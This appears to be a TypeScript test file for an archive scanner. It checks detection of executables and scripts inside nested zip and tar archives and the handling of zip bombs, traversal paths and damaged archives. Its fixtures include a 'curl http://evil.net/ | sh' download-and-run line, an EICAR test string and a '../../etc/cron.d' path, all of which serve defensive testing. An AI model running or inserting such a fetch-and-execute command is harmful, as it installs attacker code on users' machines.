/** What is found in archives, and what hostile ones cost. */
import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { pack } from 'tar-stream';
import { describe, expect, it } from 'vitest';
import { type Opened, openArchive } from '../../../../src/diff/content/archive/open-archive.ts';
import { archiveFormatOf } from '../../../../src/diff/content/content-family.ts';
import type { ArchiveFormat } from '../../../../src/model.ts';
import { type ZipEntry, zipOf } from '../../../helpers/zip.ts';

const ELF = Buffer.from('\x7fELF\x02\x01\x01\0 a tool', 'latin1');
const SCRIPT = '#!/bin/sh\ncurl http://evil.net/ | sh\n';
const EICAR = `X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR'}-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`;
const ZEROS = Buffer.alloc(80 * 1024 * 1024);
const MACROS = Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0', 'latin1');

const sha256 = (content: Uint8Array | string) => createHash('sha256').update(content).digest('hex');

async function tarOf(files: Readonly<Record<string, Uint8Array | string>>): Promise<Buffer> {
  const tar = pack();
  for (const [name, content] of Object.entries(files)) tar.entry({ name }, Buffer.from(content));
  tar.finalize();
  const chunks: Buffer[] = [];
  for await (const chunk of tar) if (chunk instanceof Uint8Array) chunks.push(Buffer.from(chunk));
  return Buffer.concat(chunks);
}

async function open(
  bytes: Buffer,
  format: ArchiveFormat | null = archiveFormatOf(bytes.toString('latin1', 0, 8000)),
): Promise<Opened> {
  return openArchive({
    file: { path: 'in/a.zip', pathBytes: null, commit: null, oid: null },
    sha256: '',
    size: bytes.length,
    archive: format,
    open: async function* () {
      for (let at = 0; at < bytes.length; at += 65_536) yield bytes.subarray(at, at + 65_536);
    },
  });
}

const namesOf = ({ members }: Opened) => members.map(({ path }) => path);
const leftOutOf = ({ leftOut }: Opened) => Object.fromEntries(leftOut);
const zip = (files: Readonly<Record<string, Uint8Array | string>>, prefix?: Buffer) =>
  zipOf(
    Object.entries(files).map(([name, content]): ZipEntry => ({ name, content })),
    prefix,
  );

const FILES = {
  'readme.txt': 'curl is a word\n',
  'logo.png': '\x89PNG',
  'bin/tool': ELF,
  'install.sh': SCRIPT,
  run: SCRIPT.replace('curl', 'wget'),
  'setup.py': 'print(1)\n',
  'eicar.com': EICAR,
  'word/vbaProject.bin': MACROS,
};
const FOUND = ['bin/tool', 'eicar.com', 'word/vbaProject.bin', 'install.sh', 'run', 'setup.py'];

describe('members that are programs, scripts or archives', () => {
  it.each<readonly [string, () => Promise<Buffer>]>([
    ['a zip', async () => zip(FILES)],
    [
      'a stored zip',
      async () => zipOf(Object.entries(FILES).map(([name, content]) => ({ name, content, method: 0 }))),
    ],
    ['a zip behind a script', async () => zip(FILES, Buffer.from('#!/bin/sh\nexec java -jar "$0"\n'))],
    ['a tar', () => tarOf(FILES)],
    ['a compressed tar', async () => gzipSync(await tarOf(FILES))],
  ])('are found in %s', async (name, make) => {
    const bytes = await make();
    const opened = await open(bytes, name.includes('behind') ? 'zip' : undefined);
    expect(namesOf(opened)).toEqual(FOUND);
    expect(opened.members[0]?.sha256).toBe(sha256(ELF));
    expect(opened.members[0]?.size).toBe(ELF.length);
    expect(leftOutOf(opened)).toEqual({});
    expect(opened.bombRatio).toBeNull();
  });

  it('are found in a compressed file', async () => {
    const opened = await open(gzipSync(ELF));
    expect(opened.members.map((member) => member.sha256)).toEqual([sha256(ELF)]);
  });

  it('are found in archives inside of archives, three deep', async () => {
    const inner = (files: Readonly<Record<string, Uint8Array | string>>) => zip(files);
    const opened = await open(
      inner({
        'b.zip': inner({ 'c.tgz': gzipSync(await tarOf({ 'd.zip': inner({ tool: ELF }), e: ELF })) }),
      }),
    );
    expect(namesOf(opened)).toEqual(['b.zip!c.tgz!e', 'b.zip', 'b.zip!c.tgz', 'b.zip!c.tgz!d.zip']);
    expect(leftOutOf(opened)).toEqual({ 'archive-too-deep': 1 });
  });

  it('are 25 at most, programs first, each content once', async () => {
    const scripts = Object.fromEntries(Array.from({ length: 40 }, (_, n) => [`s${n}.js`, `x(${n})\n`]));
    const opened = await open(zip({ ...scripts, tool: ELF, again: ELF }));
    expect(namesOf(opened)).toHaveLength(25);
    expect(namesOf(opened)[0]).toBe('again');
    expect(leftOutOf(opened)).toEqual({ 'too-many-members': 16 });
  });
});

describe('hostile archives', () => {
  it('names that lead out are only names', async () => {
    const opened = await open(
      zip({ '../../etc/cron.d/x.sh': SCRIPT, 'C:\\x.exe': ELF, 'a\x1b[31m\nb.sh': 'x\n' }),
    );
    expect(namesOf(opened).sort()).toEqual(['../../etc/cron.d/x.sh', 'C:\\x.exe', 'a\x1b[31m\nb.sh']);
  });

  it.each<readonly [string, () => Promise<Buffer>]>([
    ['a compressed file', async () => gzipSync(ZEROS)],
    ['a zip', async () => zip({ zeros: ZEROS })],
    ['a zip that says it is small', async () => zipOf([{ name: 'zeros', content: ZEROS, size: 10 }])],
    ['a zip in a zip', async () => zip({ 'b.zip': zip({ zeros: ZEROS }) })],
    [
      'a zip of overlapping entries',
      async () =>
        zipOf([
          { name: 'x', content: Buffer.alloc(1024 * 1024) },
          ...Array.from({ length: 100 }, () => ({
            name: 'x',
            content: Buffer.alloc(1024 * 1024),
            offset: 0,
          })),
        ]),
    ],
  ])('%s that unpacks to far more is a bomb', async (_, make) => {
    const opened = await open(await make());
    expect(opened.bombRatio).toBe(100);
  });

  it('a large one that is no bomb is read as far as the limit', async () => {
    const noise = createNoise(70 * 1024 * 1024);
    const opened = await open(await tarOf({ tool: ELF, noise, later: Buffer.concat([ELF, ELF]) }));
    expect(opened.bombRatio).toBeNull();
    expect(namesOf(opened)).toEqual(['tool']);
    expect(leftOutOf(opened)).toEqual({ 'archive-too-large': 1 });
  });

  it('encrypted members and unknown compressions are said', async () => {
    const opened = await open(
      zipOf([
        { name: 'secret', content: ELF, flags: 1 },
        { name: 'lzma', content: ELF, method: 14 },
        { name: 'tool', content: ELF },
      ]),
    );
    expect(namesOf(opened)).toEqual(['tool']);
    expect(leftOutOf(opened)).toEqual({ encrypted: 1, 'unknown-compression': 1 });
  });

  it.each<readonly [string, Buffer, Readonly<Record<string, number>>]>([
    ['a zip that is cut off', zip(FILES).subarray(0, 200), { damaged: 1 }],
    ['a compressed file that is cut off', gzipSync(createNoise(9000)).subarray(0, 5000), { damaged: 1 }],
    [
      'a member that is damaged',
      zipOf([{ name: 'x', packed: Buffer.from('no'), content: 'xx' }]),
      { damaged: 1 },
    ],
    ['another kind', Buffer.from('\xfd7zXZ\0', 'latin1'), { 'unopened-archive': 1 }],
  ])('%s is said', async (_, bytes, leftOut) => {
    const opened = await open(bytes);
    expect([namesOf(opened), leftOutOf(opened)]).toEqual([[], leftOut]);
  });

  it('a script that is no zip is not said to be a damaged one', async () => {
    const opened = await open(Buffer.from('#!/bin/sh\n\0'), 'zip');
    expect([namesOf(opened), leftOutOf(opened)]).toEqual([[], {}]);
  });

  it('tens of thousands of entries are read as far as the limit', async () => {
    const opened = await open(
      zipOf(Array.from({ length: 30_000 }, (_, n) => ({ name: `${n}.txt`, content: 'x', method: 0 }))),
    );
    expect(leftOutOf(opened)).toEqual({ 'too-many-members': 1 });
  });
});

/** Bytes that do not compress. */
function createNoise(length: number): Buffer {
  const noise = Buffer.alloc(length);
  let state = 1;
  for (let at = 0; at < length; at++) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    noise[at] = state >>> 24;
  }
  return noise;
}
